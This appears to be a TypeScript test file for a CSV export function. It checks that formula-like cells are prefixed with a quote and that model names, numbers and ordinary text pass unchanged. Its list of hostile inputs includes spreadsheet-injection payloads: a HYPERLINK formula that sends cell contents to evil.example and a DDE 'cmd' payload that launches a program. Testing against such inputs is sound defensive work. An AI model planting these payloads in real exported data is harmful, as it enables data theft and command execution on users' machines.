import { toCsv, type Cell } from '../../server/contract/csv';

/** The only cell of an exported table, as a spreadsheet reads it. */
function cellOf(value: Cell): string {
  const written = toCsv([[value]]).slice(1, -2);
  return written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
}

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1)',
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)',
  '@A1/B2',
  '@A1',
  '@a/b!C1',
  '@cf/meta/x|y',
  '@cf/meta(1)',
  '-name',
  '+1-1',
  '--1',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '＝1+1',
  '＠SUM(1)',
])('%j is marked as text, because a spreadsheet might calculate it', (text) => {
  expect(cellOf(text)).toBe(`'${text}`);
});

test.each([
  '@cf/meta/llama-3.1-8b-instruct',
  '@cf/baai/bge-m3',
  '@hf/thebloke/zephyr-7b-beta-awq',
  '-5',
  '-1,234.50',
  '+1.5e-3',
  '-12%',
  '-',
  '---',
  '==',
  'gpt-4o',
  'a=b',
  "'quoted'",
  'line\n=1+1',
  '',
])('%j is exported as it is', (text) => {
  expect(cellOf(text)).toBe(text);
});

test('numbers keep their sign, and separators and quotes stay inside their cell', () => {
  expect(toCsv([[-3, 'a,b', 'c"d', null, undefined, true], ['x\r\ny']])).toBe(
    '\uFEFF-3,"a,b","c""d",,,true\r\n"x\r\ny"\r\n',
  );
});
